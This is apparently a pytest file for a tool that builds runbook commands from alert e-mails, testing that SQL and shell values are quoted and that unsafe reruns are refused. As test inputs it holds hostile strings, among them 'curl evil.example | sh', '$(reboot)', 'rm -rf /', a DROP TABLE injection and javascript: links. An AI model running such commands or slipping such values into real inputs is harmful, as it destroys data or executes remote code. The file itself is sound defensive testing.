"""Runbook steps: each command in its own language, values quoted for that language, commands
left out (and said so) when a value is missing or unsafe. What the commands do when run is
checked in tests/conformance."""

from __future__ import annotations

from datetime import UTC, datetime

import pytest

from opsweek.alerts.runbook import RunbookError, _checked, render_command, steps_for
from opsweek.site import AirflowCli, Site
from tests.alerts.helpers import parsed
from tests.alerts.test_parsers import RERUN

SEEN = datetime(2023, 11, 8, 5, 15, tzinfo=UTC)


def steps(name: str, index: int = 0):
    alert = parsed(name)[index]
    return steps_for(alert.kind, alert.details, alert.occurred_at or SEEN, alert.occurred_at)


def by_id(name: str, index: int = 0) -> dict[str, list[str]]:
    found: dict[str, list[str]] = {}
    for step in steps(name, index):
        if step.command:
            found.setdefault(step.id, []).append(step.command)
    return found


def test_sql_gets_sql_literals_not_shell_quotes() -> None:
    """The data loss query filters on the partition's columns with SQL literals; it used to be
    one shell-quoted string (WHERE 'year=2023 AND ...'), which filters nothing."""
    (hourly,) = by_id("data_loss_error.eml")["hourly"]
    assert hourly == (
        "SELECT * FROM wmf_raw.webrequest_sequence_stats_hourly WHERE webrequest_source = 'text' "
        "AND year = 2023 AND month = 11 AND day = 7 AND hour = 14;"
    )
    values = {"source": "te'xt\\", "n": "7; DROP TABLE x"}
    assert render_command("{source:str}", values, "sql") == "'te\\'xt\\\\'"
    with pytest.raises(Exception, match=r"n cannot be used safely"):
        render_command("{n:int}", values, "sql")


def test_a_command_missing_a_value_is_left_out_and_said() -> None:
    alert = parsed("data_loss_error.eml")[0]
    details = {**alert.details, "hour": None, "webrequest_source": ""}
    found = steps_for(alert.kind, details, SEEN)
    assert not any(s.lang == "sql" for s in found)
    said = [s.text for s in found if s.text.startswith("The e-mail does not say")]
    assert said == [
        "The e-mail does not say which webrequest source: look in the name of the DAG that "
        "loaded it",
        "The e-mail does not say which hour: look in the Airflow task's logical date",
    ]


def test_refine_rerun_is_the_mails_own_command_requoted() -> None:
    commands = by_id("refine_failure.eml")
    (rerun,) = commands["rerun"]
    assert rerun == (
        "sudo -u analytics kerberos-run-command analytics refine_event "
        "--ignore_failure_flag=true '--table_include_regex=mediawiki_foo|navigationtiming' "
        "--since=2024-01-02T03:00:00.000Z --until=2024-01-02T05:00:00.000Z"
    )
    assert commands["yarn-logs"] == [
        "sudo -u analytics yarn logs -applicationId application_1700000000000_12345 | grep Refine:"
    ]
    assert commands["sal"] == ["!log reran refine_event for event.mediawiki_foo 2024-01-02T03"]


@pytest.mark.parametrize(
    ("evil", "reason"),
    [
        (RERUN + "; curl evil.example | sh", "'2024-01-02T05:00:00.000Z;' is not a time"),
        (RERUN + " $(reboot)", "'$(reboot)' is not an option"),
        (RERUN.replace("refine_event", "refine_event`id`"), "names the job refine_event`id`"),
        ("sudo -u root kerberos-run-command analytics refine_event --since=x", "keytab of"),
        ("rm -rf / #", "it asks to run \"rm -rf / '#'\", not a Refine job"),
        # issue 29: a mail chose the account and the program of the rerun
        (
            "sudo -u root kerberos-run-command root pwned --since=2024-01-02T03:00:00.000Z "
            "--until=$'\\n'pwned",
            "runs as root; Refine runs as analytics",
        ),
        (
            "sudo -u hdfs kerberos-run-command hdfs refine_event --since=2024-01-02T03 "
            "--until=2024-01-02T04",
            "runs as hdfs",
        ),
        (RERUN.replace("kerberos-run-command", "/tmp/x"), "runs /tmp/x, not kerberos-run-command"),
        (RERUN + " --config_file=/tmp/evil.properties", "'--config_file=/tmp/evil.properties'"),
        (RERUN.replace("--since='2024", "--since='yesterday"), "is not a time"),
        (RERUN.replace("mediawiki_foo|", "mediawiki_foo|("), "is not a regex"),
        (RERUN.replace("=true", "=yes please"), "'yes' is not true or false"),
        (RERUN + " --until=2024-01-02T06:00:00Z", "--until is given twice"),
        (RERUN + " --dry_run=maybe", "'maybe' is not true or false"),
        (RERUN.replace("--since='2024-01-02T03:00:00.000Z'", "$'--since=\\n'"), "not an option"),
    ],
)
def test_a_rerun_that_asks_for_anything_else_has_no_runnable_step(evil: str, reason: str) -> None:
    alert = parsed("refine_failure.eml")[0]
    found = steps_for(alert.kind, {**alert.details, "rerun_command": evil}, SEEN)
    assert not any(s.id in ("rerun", "opsweek-rerun") for s in found)
    assert not any("sudo" in s.command for s in found if s.id != "yarn-logs")
    (refused,) = [s.text for s in found if s.text.startswith("opsweek will not rerun this")]
    assert reason in refused


def test_the_job_account_and_wrapper_come_from_the_settings() -> None:
    alert = parsed("refine_failure.eml")[0]
    site = Site(jobs_user="analytics-search", kerberos="krb-run", launcher="launch9.example.org")
    options = "--since='2024-01-02T03:00:00.000Z' --until='2024-01-02T05:00:00.000Z'"
    found = {
        s.id: s
        for s in steps_for(alert.kind, {**alert.details, "rerun_command": options}, SEEN, site=site)
    }
    assert found["rerun"].command == (
        "sudo -u analytics-search krb-run analytics-search refine_event "
        "--since=2024-01-02T03:00:00.000Z --until=2024-01-02T05:00:00.000Z"
    )
    assert found["rerun"].host == "launch9.example.org"
    assert found["yarn-logs"].command.startswith("sudo -u analytics-search yarn logs")
    other = steps_for(alert.kind, {**alert.details, "job": "refine_mine"}, SEEN, site=site)
    assert any("refine_mine is not one of the Refine jobs" in s.text for s in other)
    assert not any(s.id == "rerun" for s in other)


def test_refine_mail_without_a_rerun_gets_one_built_from_its_partitions() -> None:
    alert = parsed("refine_failure.eml")[2]
    found = steps_for(alert.kind, {**alert.details, "rerun_command": ""}, SEEN)
    (rerun,) = [s.command for s in found if s.id == "rerun"]
    assert rerun == (
        "sudo -u analytics kerberos-run-command analytics refine_event "
        "--ignore_failure_flag=true --table_include_regex=navigationtiming "
        "--since=2024-01-02T03:00:00.000Z --until=2024-01-02T04:00:00.000Z"
    )
    assert any("made by opsweek" in s.text for s in found)


def test_hostile_values_are_quoted_for_shell_and_sql() -> None:
    alert = parsed("systemd_timer_fail_drop.eml")[0]
    details = {**alert.details, "out_of_interval_tables": ["wmf.x; rm -rf /"]}
    found = {s.id: s for s in steps_for(alert.kind, details, SEEN)}
    assert found["check-partitions"].command == "opsweek check partitions 'wmf.x; rm -rf /'"
    assert found["msck"].command == ""  # not a plain SQL name: left out
    assert "cannot be used safely" in found["msck"].text


def test_a_value_that_would_be_an_option_is_refused() -> None:
    alert = parsed("systemd_timer_fail_drop.eml")[0]
    found = {s.id: s for s in steps_for(alert.kind, {**alert.details, "unit": "-H evil"}, SEEN)}
    assert found["status"].command == ""
    assert "would be read as an option" in found["status"].text


def test_logs_are_read_around_the_alerts_own_time() -> None:
    alert = parsed("systemd_timer_fail_drop.eml")[0]
    first, last = datetime(2023, 11, 8, 5, 15, tzinfo=UTC), datetime(2023, 11, 8, 7, 0, tzinfo=UTC)
    journal = next(
        s for s in steps_for(alert.kind, alert.details, first, last) if s.id == "journal"
    )
    assert journal.command == (
        "sudo journalctl -u refinery-drop-webrequest-refined-partitions.service "
        "--since '2023-11-08 03:15:00 UTC' --until '2023-11-08 08:00:00 UTC'"
    )
    assert journal.host == "an-launcher1002.eqiad.wmnet"  # from the mail's Received header


def test_alertmanager_routes_by_exact_name_never_inventing_a_unit() -> None:
    details = {
        "alertname": "HiveServerSlowQueries",  # "SLO" in "Slow" used to pick the SLO steps
        "topic": "",
        "labels": {"alertname": "HiveServerSlowQueries", "instance": "an-coord1001:10100"},
        "annotations": {"runbook": "https://wikitech.wikimedia.org/wiki/Hive#Slow"},
    }
    found = steps_for("alertmanager", details, SEEN)
    assert [s.id for s in found if s.id] == ["runbook"]
    assert not any("systemctl" in s.command or "SLO" in s.text for s in found)
    assert found[-1].text.endswith("its labels: instance=an-coord1001:10100")


def test_java_daemon_thread_dump_before_restart_on_its_host() -> None:
    details = {
        "alertname": "HiveServerHeapUsage",
        "topic": "java_daemon",
        "labels": {"alertname": "HiveServerHeapUsage", "instance": "an-coord1001:10100"},
        "annotations": {},
    }
    found = [s for s in steps_for("alertmanager", details, SEEN) if s.command]
    ids = [s.id for s in found]
    assert ids.index("jstack") < ids.index("restart")
    jstack = found[ids.index("jstack")]
    assert jstack.host == "an-coord1001"
    assert jstack.command == (
        'sudo -u hive jstack -l "$(systemctl show --property=MainPID --value -- hive-server2)" '
        "| tee /tmp/hive-server2.jstack"
    )


def test_airflow_failed_and_up_for_retry() -> None:
    """Issue 30: the CLI's clear and pause were printed with no host and no user, as if any
    shell reached any Airflow instance. They are printed where the instance's CLI runs (its
    cli_host, as its cli_user), and otherwise the steps say to act in the UI."""
    alert = parsed("airflow_task_failed.eml")[0]
    cli = AirflowCli("analytics", "an-launcher1002.eqiad.wmnet", "analytics", "airflow")
    site = Site(airflow_clis=(cli,))
    found = {s.id: s for s in steps_for(alert.kind, alert.details, SEEN, site=site) if s.id}
    assert found["clear"].command == (
        "sudo -u analytics airflow tasks clear --yes --only-failed --task-regex "
        "'^process_edit_hourly$' --start-date 2023-10-01T00:00:00+00:00 "
        "--end-date 2023-10-01T00:00:00+00:00 edit_hourly"
    )
    assert (found["clear"].host, found["clear"].as_whom) == (
        "an-launcher1002.eqiad.wmnet",
        "analytics",
    )
    assert found["pause"].where_line() == (
        "on an-launcher1002.eqiad.wmnet as analytics, changes things"
    )
    elsewhere = steps_for(alert.kind, alert.details, SEEN)  # no CLI set for this instance
    assert not any(s.id in ("clear", "pause") for s in elsewhere)
    assert any("in the Airflow UI" in s.text for s in elsewhere)
    retry = steps("airflow_task_retry_mapped.eml")
    assert not any(s.id in ("clear", "pause") for s in retry)  # clear --only-failed: no-op
    assert any("Wait for the retry" in s.text for s in retry)


def test_mediawiki_history_each_service_then_each_environment_on_the_deployment_host() -> None:
    found = [s for s in steps("mediawiki_history_available.eml") if s.lang == "shell"]
    assert {s.host for s in found} == {"deployment.eqiad.wmnet"}
    order = [(s.id, s.command.split("/services/")[1].split(" ")[0]) for s in found]
    assert order == [
        ("merged", "edit-analytics"),
        ("staging", "edit-analytics"),
        ("codfw", "edit-analytics"),
        ("eqiad", "edit-analytics"),
        ("merged", "editor-analytics"),
        ("staging", "editor-analytics"),
        ("codfw", "editor-analytics"),
        ("eqiad", "editor-analytics"),
    ]
    assert all("&&" not in s.command.split("&&", 1)[1] for s in found)  # one environment each


def test_runbooks_toml_is_checked() -> None:
    with pytest.raises(RunbookError, match="needs an id"):
        _checked("k", [{"text": "x", "shell": "ls"}])
    with pytest.raises(RunbookError, match="one command per step"):
        _checked("k", [{"id": "a", "text": "x", "shell": "ls", "sql": "select 1"}])
    with pytest.raises(RunbookError, match="host is for shell and sql"):
        _checked("k", [{"id": "a", "text": "x", "url": "https://x", "host": "h"}])


@pytest.mark.parametrize(
    ("alertname", "labels", "family", "unit"),
    [
        ("HiveServer2HeapUsage", {"instance": "an-coord1001:10100"}, "java_daemon", "hive-server2"),
        ("HiveServerHeapUsage", {"instance": "an-coord1001:10100"}, "java_daemon", "hive-server2"),
        (
            "JvmGcTimeHigh",
            {"job": "namenode", "instance": "an-master1001:9100"},
            "java_daemon",
            "hadoop-hdfs-namenode",
        ),
        (
            "DruidHistoricalHeapUsage",
            {"instance": "an-druid1001"},
            "java_daemon",
            "druid-historical",
        ),
        ("HdfsFSImageTooOld", {}, "hdfs", ""),
        ("YarnUnhealthyNodes", {}, "yarn", ""),
        ("SchedulerHeartbeatMissing", {"namespace": "airflow-analytics"}, "airflow", ""),
        ("KafkaUnderReplicatedPartitions", {}, "kafka", ""),
        ("EventGateHighErrorRate", {}, "eventgate", ""),
        ("FlinkJobManagerNotRunning", {}, "flink", ""),
        ("SomethingNobodyListed", {}, "", ""),
    ],
)
def test_alertmanager_alerts_are_read_by_family(
    alertname: str, labels: dict[str, str], family: str, unit: str
) -> None:
    """Issue 28: HiveServer2HeapUsage got only the generic links while HiveServerHeapUsage got
    the Java daemon steps; families give every alert of a kind its steps."""
    from opsweek.alerts.sources.alertmanager import _alert

    labels = {"alertname": alertname, **labels}
    alert = _alert({"status": "firing", "labels": labels, "annotations": {}}, "g")
    assert alert.details["family"] == family
    found = steps_for(alert.kind, alert.details, SEEN)
    if family == "java_daemon":
        jstack = next(s for s in found if s.id == "jstack")
        assert f"-- {unit})" in jstack.command
    if not family:
        assert "what the alert says is its labels" in found[-1].text


def test_an_unknown_java_daemon_says_how_to_find_it() -> None:
    from opsweek.alerts.sources.alertmanager import _alert

    labels = {"alertname": "OldGenFull", "instance": "an-worker1099:9100"}
    found = steps_for("alertmanager", _alert({"labels": labels}, "g").details, SEEN)
    assert not any(s.id == "jstack" for s in found)
    assert any("ps -auxff | grep java" in s.text and "an-worker1099" in s.text for s in found)


@pytest.mark.parametrize(
    ("link", "shown"),
    [
        (
            "https://wikitech.wikimedia.org/wiki/Data_Platform/Systems/Airflow#I'm_getting_paged",
            "https://wikitech.wikimedia.org/wiki/Data_Platform/Systems/Airflow#I'm_getting_paged",
        ),
        ("https://w.wiki/Help:Foo_(bar)", "https://w.wiki/Help:Foo_(bar)"),
        ("https://w.wiki/The_app_isn%27t_running", "https://w.wiki/The_app_isn%27t_running"),
        ("https://de.wikipedia.org/wiki/Übersicht", "https://de.wikipedia.org/wiki/%C3%9Cbersicht"),
    ],
)
def test_runbook_links_valid_per_rfc_3986_are_kept(link: str, shown: str) -> None:
    """Issue 28: an anchor with an apostrophe was refused as "not an http(s) URL"."""
    details = {"alertname": "X", "labels": {}, "annotations": {"runbook_url": link}}
    (runbook,) = [s for s in steps_for("alertmanager", details, SEEN) if s.id == "runbook"]
    assert runbook.command == shown


@pytest.mark.parametrize(
    ("link", "reason"),
    [
        ("javascript:alert(1)", "is not an http(s) URL"),
        ("https://w.wiki/a b", "holds a space"),
        ("https://w.wiki/<script>", "'<' has no place in one"),
        ("https://w.wiki/100%", "a '%' that is not an escape"),
        ("TODO", "is not an http(s) URL"),
    ],
)
def test_other_links_are_refused_with_the_reason_shown(link: str, reason: str) -> None:
    details = {"alertname": "X", "labels": {}, "annotations": {"runbook": link}}
    (runbook,) = [s for s in steps_for("alertmanager", details, SEEN) if "runbook" in s.text]
    assert not runbook.command and reason in runbook.text
